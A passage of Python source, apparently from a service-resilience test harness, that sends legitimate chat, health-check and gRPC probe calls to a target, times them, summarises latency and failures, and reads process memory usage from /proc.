        window = [c for c in list(self.calls) if c.started >= since and (until is None or c.started < until)]
        latencies = sorted(c.latency for c in window)

        def pick(q: float) -> float:
            return latencies[min(len(latencies) - 1, int(q * len(latencies)))] if latencies else 0.0

        failed = [c for c in window if not c.ok]
        return CallStats(len(window), len(failed), pick(0.5), pick(0.99),
                         tuple(f"{c.kind}: {c.note}" for c in failed[:5]))

    def _loop(self) -> None:
        counter = 0
        while not self._stop.is_set():
            counter += 1
            self._timed("chat", lambda: self._chat(f"legit {counter}"))
            self._timed("healthz", self._healthz)
            for which in ("worker", "internal"):
                self._timed(f"grpc-{which}", lambda which=which: self._probe(which))
            self._stop.wait(self.pause)

    def _timed(self, kind: str, call: Callable[[], str]) -> None:
        started = time.monotonic()
        try:
            note = call()
        except Exception as e:  # a failed legitimate call is what we measure, whatever it is
            note = f"{type(e).__name__}: {e}"
            self._http = None
        self.calls.append(Call(kind, started, time.monotonic() - started, not note, note))

    def _connection(self) -> object:
        import http.client

        if self._http is None:
            self._http = http.client.HTTPConnection(self.target.host, self.target.http_port, timeout=self.timeout)
        return self._http

    def _chat(self, text: str) -> str:
        import json

        connection = self._connection()
        headers = {"Content-Type": "application/json"}
        if self.target.client_key:
            headers["Authorization"] = f"Bearer {self.target.client_key}"
        body = json.dumps({"model": self.model, "messages": [{"role": "user", "content": text}]})
        connection.request("POST", "/v1/chat/completions", body, headers)  # type: ignore[attr-defined]
        response = connection.getresponse()  # type: ignore[attr-defined]
        data = response.read()
        if response.status != 200:
            return f"HTTP {response.status} {data[:200]!r}"
        content = json.loads(data)["choices"][0]["message"]["content"]
        return "" if text in content else f"wrong answer {content[:100]!r}"

    def _healthz(self) -> str:
        connection = self._connection()
        connection.request("GET", "/healthz")  # type: ignore[attr-defined]
        response = connection.getresponse()  # type: ignore[attr-defined]
        response.read()
        return "" if response.status == 200 else f"HTTP {response.status}"

    def _probe(self, which: str) -> str:
        import grpc

        method = self._channels[which].unary_unary("/infx.attack.Probe/Nothing")
        try:
            method(b"", timeout=self.timeout)
        except grpc.RpcError as e:
            code = e.code()  # type: ignore[attr-defined]
            return "" if code == grpc.StatusCode.UNIMPLEMENTED else f"{code.name} {e.details()}"  # type: ignore[attr-defined]
        return "unexpected OK"


def rss_bytes(pid: int) -> int:
    """Resident set size of process ``pid`` (Linux)."""
    with open(f"/proc/{pid}/status") as status:
        for line in status:
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) * 1024
    raise RuntimeError(f"no VmRSS for process {pid}")
